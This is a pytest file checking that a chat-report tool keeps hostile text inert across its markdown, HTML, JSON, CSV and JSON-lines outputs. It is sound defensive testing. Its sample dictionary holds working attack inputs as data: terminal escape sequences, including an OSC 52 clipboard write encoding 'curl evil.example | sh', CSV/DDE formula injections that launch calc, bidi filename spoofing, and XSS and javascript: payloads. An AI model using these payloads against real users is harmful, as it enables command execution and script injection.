"""Hostile posts stay text in every output: summary (md, html, json, thanks, private), export
(csv, json) and flag's JSON lines, written to a file and to stdout. (The screen:
tests/ui/test_safe_text.py.)

Each sample goes in a post's text, its author's name and handle, the chat's topic and the plan's
people. What must hold: no forbidden code point reaches the bytes written, each format parses,
no link is built from a handle its network would not give, no CSV cell runs as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from tchat_tui.cli.main import main
from tchat_tui.domain.chat_post import ChatPost
from tchat_tui.domain.classify import Classification
from tchat_tui.domain.post import Network, Role
from tchat_tui.domain.summary import Contributor, Summary
from tchat_tui.report.build import build_summary
from tchat_tui.report.render import render
from tchat_tui.report.transcript import export_rows, to_csv, to_json
from tchat_tui.store.database import Store
from tests.factories import T0, make_post, stream_line

SAMPLES = {
    "rich-markup": "[bold]loud[/bold] [@click=app.quit]quit[/] [link=https://evil.example]x[/link]",
    "csi-clear": "\x1b[2J\x1b[3J\x1b[H screen cleared",
    "osc0-title": "\x1b]0;pwned\x07 title changed",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 clipboard written",
    "dcs": "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\ sixel",
    "c0-and-del": "".join(map(chr, range(0x20))) + "\x7f c0 and del",
    "c1": "".join(map(chr, range(0x80, 0xA0))) + " c1",
    "csi-8bit": "\x9b2J\x9b31m 8-bit csi",
    "bidi-override": "invoice \u202eexe.pdf\u202c done \u202a\u202b\u202d",
    "bidi-isolates": "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069 \u200e\u200f\u061c",
    "zero-width": "z\u200bero\u200dwidth\ufeff",
    "lone-surrogate": "half \ud800 a pair \udfff",
    "long-10k": ("ten thousand " * 800)[:10_000],
    "combining-flood": "Z" + "\u0336\u0301\u0489" * 2000,
    "csv-formula-eq": '=HYPERLINK("http://evil.example","click")',
    "csv-formula-plus": "+cmd|' /C calc'!A0",
    "csv-formula-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-formula-tab": "\t=1+1",
    "csv-formula-cr": "\r=1+1",
    "markdown-link": "a>)[y](javascript:alert(1)",
    "markdown-mix": "**b** _i_ `c` ![i](http://evil.example/p.png) <http://evil.example> |x| # h",
    "html": '<script>alert(1)</script><img src=x onerror="alert(1)"> \'"&amp;',
}
"""Hostile texts, each a test case (and each used as a handle and a name too)."""

FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""What no output may carry raw: C0 but tab and newline, DEL, C1, bidi controls and marks. (Kept
here, not imported, so the test does not trust the code it checks.)"""
VALID_LINK = re.compile(
    r"https://x\.com/(claire|ada|bob)/status/[0-9]+"
    r"|https://mastodon\.example/@(bob|bob@other\.example)/[0-9]+"
    r"|https://bsky\.app/profile/did:plc:[a-z0-9]+/post/[a-z0-9]+"
    r"|https://x\.com/(claire|ada|bob|nadia)"
    r"|https://(mastodon|other)\.example/@bob"
    r"|https://bsky\.app/profile/bob\.bsky\.social"
)
"""Every link the reports may hold here: the chat's well-formed accounts' posts and profiles
only."""
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def storable(text: str) -> bool:
    """SQLite keeps UTF-8: a lone surrogate cannot be stored (the store's intake replaces it)."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def _post(pid: str, text: str, handle: str, minute: float, **kw: Any) -> ChatPost:
    role = kw.pop("role", Role.PARTICIPANT)
    question, answers = kw.pop("question", None), kw.pop("answers", None)
    post = replace(make_post(pid, text, handle, minute=minute), author_name=handle, **kw)
    return ChatPost(post, Classification(role=role, question_number=question, answers=answers))


def build_db(path: Path, sample: str) -> Path:
    """A chat whose topic, plan people and thanks carry the sample (the plan is stored as JSON,
    escapes kept, so even a lone surrogate comes back) and, when SQLite can hold it, whose posts
    carry it in text, author name and handle, on X, Mastodon and Bluesky."""
    store = Store.open(path)
    plan = {
        "tag": "#T",
        "topic": f"topic {sample}",
        "host": "claire",
        "guests": ["nadia", f"g{sample}"],
        "co_moderators": [sample],
        "templates": {"thanks": f"Thanks {sample} {{tag}}"},
    }
    chat = store.ensure_chat("T", started_at=T0, plan_json=json.dumps(plan))
    posts = [
        _post("1", "Q1: what helps? #T", "claire", 1, role=Role.HOST, question=1),
        _post("2", "A1 naps #T", "ada", 2, answers=1),
        _post("3", "A1 walks #T", "bob", 3, answers=1),
        _post(
            "20",
            "mastodon, remote #T",
            "bob@other.example",
            4,
            network=Network.MASTODON,
            instance="mastodon.example",
        ),
        _post(
            "21",
            "bluesky #T",
            "bob.bsky.social",
            4,
            network=Network.BLUESKY,
            native_id="at://did:plc:abc123/app.bsky.feed.post/3kxyz",
        ),
    ]
    starred = [
        "x:3",
        "mastodon:mastodon.example:20",
        "bluesky:at://did:plc:abc123/app.bsky.feed.post/3kxyz",
    ]
    if storable(sample):
        posts += [
            _post("4", f"A1 {sample} #T", sample, 5, answers=1),
            _post("5", sample, sample, 6),
            _post("6", sample, sample, 6.5, network=Network.MASTODON, instance="mastodon.example"),
            _post(
                "7", "hostile instance #T", "bob", 6.6, network=Network.MASTODON, instance=sample
            ),
            _post(
                "8",
                sample,
                sample,
                7,
                network=Network.BLUESKY,
                native_id="at://did:plc:abc123/app.bsky.feed.post/3kbad",
            ),
        ]
        starred += [
            "x:4",
            "x:5",
            "mastodon:mastodon.example:6",
            "bluesky:at://did:plc:abc123/app.bsky.feed.post/3kbad",
        ]
    if storable(sample):  # for the private report: a flag with its reasons, an audience question
        flagged = replace(make_post("9", f"buy {sample} #T", "ada", minute=7.5), author_name="ada")
        asked = replace(make_post("10", f"@nadia {sample}? #T", "bob", minute=7.6), author_name="b")
        posts += [
            ChatPost(flagged, Classification(Role.PARTICIPANT), promo_level="red"),
            ChatPost(asked, Classification(Role.PARTICIPANT, audience_question=True)),
        ]
    store.add_posts(chat, posts)
    if storable(sample):
        reasons = json.dumps([f"offer: '{sample}' (+2.0)"])
        store.db.execute("UPDATE posts SET promo_reasons = ? WHERE key = 'x:9'", [reasons])
        store.claim(chat, "x:10", sample)
        store.mark_answered(chat, "x:10", sample)
    question = f"What helps? {sample}" if storable(sample) else "What helps?"
    store.set_planned_questions(chat, [(1, question, None)])
    keys = {p.post.key for p in posts}
    for key in starred:
        assert key in keys, key
        store.set_starred(chat, key, "tom", True)
    store.close()
    return path


_DBS: dict[str, Path] = {}


@pytest.fixture
def hostile_db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample's chat database (built once per sample)."""
    name = request.node.callspec.params["name"]
    if name not in _DBS:
        _DBS[name] = build_db(tmp_path_factory.mktemp(name) / "chat.db", SAMPLES[name])
    return _DBS[name]


def clean(data: bytes, *, crlf_rows: bool = False) -> str:
    """The bytes as UTF-8 (strict: no lone surrogate), checked for forbidden code points."""
    text = data.decode("utf-8")
    if crlf_rows:  # CSV ends its rows with CR LF; a CR anywhere else is forbidden
        text = text.replace("\r\n", "\n")
    bad = sorted({f"U+{ord(c):04X}" for c in FORBIDDEN.findall(text)})
    assert not bad, f"forbidden code points written: {bad}"
    return text


def check_links(links: list[str], sample: str) -> None:
    """Every link is one of the chat's well-formed accounts, never built from the sample."""
    for link in links:
        assert VALID_LINK.fullmatch(link), f"a link not built from a valid handle: {link[:200]!r}"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


HTML_TAGS = set(
    "html head meta title style body h1 h2 h3 p strong table tr th td ol ul li span a div svg"
    " line text rect bdi details summary".split()
)


def check_md(text: str, sample: str) -> None:
    """Markdown: no raw HTML, no image, links only to valid accounts."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    links: list[str] = []
    for tok in tokens:
        assert tok.type not in ("html_block", "html_inline")
        for child in tok.children or []:
            assert child.type not in ("html_inline", "image"), child
            if child.type == "link_open":
                links.append(str(child.attrGet("href")))
    check_links(links, sample)


def check_html(text: str, sample: str) -> None:
    """HTML: only the report's own tags, no event handler, links only to valid accounts."""
    parser = _Tags()
    parser.feed(text)
    parser.close()
    links = []
    for tag, attrs in parser.tags:
        assert tag in HTML_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("src", "srcdoc"), name
            if name == "href":
                links.append(str(value))
    check_links(links, sample)


def check_csv(text: str, sample: str) -> None:
    """CSV: one header and same-width rows; no cell a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(r) for r in rows}) == 1
    for row in rows[1:]:
        for cell in row:
            if cell and not re.fullmatch(r"-?[0-9.]+", cell):
                assert not cell.startswith(FORMULA), cell[:80]
    check_links([c for r in rows[1:] for c in r if c.startswith("http")], sample)


def check_export_json(text: str, sample: str) -> None:
    """Export JSON: parses; each url is a valid account's or none."""
    rows = json.loads(text)
    check_links([r["url"] for r in rows if r["url"]], sample)


def check_summary_json(text: str, sample: str) -> None:
    """Summary JSON: parses; each highlight's url is a valid account's or none."""
    data = json.loads(text)
    check_links([h["url"] for h in data["highlights"] if h["url"]], sample)


OUTPUTS = {
    "summary-md": (["summary", "--format", "md"], check_md),
    "summary-html": (["summary", "--format", "html"], check_html),
    "summary-json": (["summary", "--format", "json"], check_summary_json),
    "summary-thanks": (["summary", "--thanks"], lambda text, sample: None),
    "summary-md-private": (["summary", "--format", "md", "--private"], check_md),
    "summary-html-private": (["summary", "--format", "html", "--private"], check_html),
    "export-csv": (["export", "--format", "csv"], check_csv),
    "export-json": (["export", "--format", "json"], check_export_json),
}


@pytest.mark.parametrize("output", list(OUTPUTS))
@pytest.mark.parametrize("name", list(SAMPLES))
def test_every_output_keeps_hostile_text_as_text(
    name: str,
    output: str,
    hostile_db: Path,
    tmp_path: Path,
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    """To stdout and to a file: no forbidden code point in the bytes, the format parses, links
    only to valid handles, no formula."""
    argv, check = OUTPUTS[output]
    sample = SAMPLES[name]
    assert main([*argv, "--db", str(hostile_db)]) == 0
    written = capsysbinary.readouterr().out
    check(clean(written, crlf_rows=output == "export-csv"), sample)
    out = tmp_path / "out"
    assert main([*argv, "--db", str(hostile_db), "--out", str(out)]) == 0
    check(clean(out.read_bytes(), crlf_rows=output == "export-csv"), sample)


@pytest.mark.parametrize("name", list(SAMPLES))
def test_flag_json_lines_keep_hostile_text_as_text(
    name: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """flag: one JSON object a line, none with a forbidden code point, the text exact but for
    NUL and lone surrogates (replaced when the stream line is read: a bad post is one bad post)."""
    sample = SAMPLES[name]
    path = tmp_path / "stream.jsonl"
    lines = [
        stream_line("1", "Q1: what helps? #T", "claire", minute=1),
        stream_line("2", f"A1 {sample} #T", sample, minute=2, name=sample),
        stream_line("3", f"{sample} https://shop.example/x #T", sample, minute=3, name=sample),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="ascii")  # the JSON escapes carry it all
    assert main(["flag", str(path), "--host", "claire", "--tag", "T", "--authors"]) == 0
    text = clean(capsysbinary.readouterr().out)
    objects = [json.loads(line) for line in text.splitlines()]
    authors = [o["author"] for o in objects if "id" in o]
    expected = sample.replace("\x00", "\ufffd")
    if not storable(sample):
        expected = expected.replace("\ud800", "\ufffd").replace("\udfff", "\ufffd")
    assert authors == ["claire", expected, expected]


@pytest.mark.parametrize("name", list(SAMPLES))
def test_renderers_take_any_text_lone_surrogates_included(
    name: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """Whatever the store hands back, each renderer's output is clean: the sample in a quoted
    post's text, name and handle, a contributor, the people, and an export row."""
    sample = SAMPLES[name]
    store = Store.open(build_db(tmp_path / "chat.db", "plain words"))
    base = build_summary(store)
    post = base.highlights[0]
    hostile_post = replace(post, text=sample, author_handle=sample, author_name=sample)
    contributor = Contributor(sample, sample, "x", "participant", 1, 1, True, True)
    summary: Summary = replace(
        base,
        topic=sample,
        host=sample,
        guests=(sample,),
        highlights=(hostile_post, *base.highlights),
        top_contributors=(contributor,),
        participants=(sample,),
        to_thank=(sample,),
    )
    for fmt, check in (("md", check_md), ("html", check_html), ("json", check_summary_json)):
        check(clean(render(summary, fmt).encode("utf-8")), sample)
    rows = list(export_rows(store, 1))
    store.close()
    hostile_rows = [*rows, {**rows[1], "text": sample, "author": sample, "author_name": sample}]
    check_csv(clean("".join(to_csv(iter(hostile_rows))).encode("utf-8"), crlf_rows=True), sample)
    check_export_json(clean("".join(to_json(iter(hostile_rows))).encode("utf-8")), sample)


def test_json_outputs_escape_rather_than_replace() -> None:
    """JSON keeps the text exact: controls and bidi controls are escaped, so json.loads gives
    back what was stored (only a lone surrogate, which no UTF-8 reader takes, is replaced)."""
    from tchat_tui.cli.flag import dumps

    text = "a\x1b]0;t\x07\x9b\u202e\u2066\u200e b"
    line = dumps({"text": text})
    assert json.loads(line) == {"text": text}
    assert "\\u009b" in line and "\\u202e" in line
    assert json.loads(dumps({"t": "x\ud800y"})) == {"t": "x\ufffdy"}


@pytest.mark.parametrize(
    ("network", "handle", "native_id", "instance", "link"),
    [
        ("x", "ada_1", "123", None, "https://x.com/ada_1/status/123"),
        ("x", "a>)[y](javascript:alert(1)", "123", None, None),
        ("x", "sixteen_chars_xx", "123", None, None),
        ("x", "ada", "12/../3", None, None),
        ("x", "ad\u200ba", "1", None, None),
        ("mastodon", "bob", "11", "social.example:8443", "https://social.example:8443/@bob/11"),
        (
            "mastodon",
            "bob@other.example",
            "11",
            "Social.Example",
            "https://social.example/@bob@other.example/11",
        ),
        ("mastodon", "bob", "11", "evil.example/x?", None),
        ("mastodon", "bob", "11", "user:pw@host", None),
        (
            "mastodon",
            "bob@other.example",
            "11",
            "a.example",
            "https://a.example/@bob@other.example/11",
        ),
        ("mastodon", "bob@x.example/../y", "11", "a.example", None),
        (
            "bluesky",
            "ada.bsky.social",
            "at://did:plc:ab12/app.bsky.feed.post/3kq",
            None,
            "https://bsky.app/profile/did:plc:ab12/post/3kq",
        ),
        ("bluesky", "ada", "at://did:plc:ab12/app.bsky.feed.post/3kq", None, None),
        ("bluesky", "ada.bsky.social", "at://did:plc:ab12/app.bsky.feed.like/3kq", None, None),
        ("bluesky", "ada.bsky.social", "at://did:plc:a>b/app.bsky.feed.post/3kq", None, None),
        ("other", "ada", "1", None, None),
    ],
)
def test_links_come_only_from_valid_parts(
    network: str, handle: str, native_id: str, instance: str | None, link: str | None
) -> None:
    """A post is linked only when its handle, id (and instance, DID, record key) are well-formed."""
    from tchat_tui.report.links import post_link

    assert post_link(network, native_id, handle, instance) == link
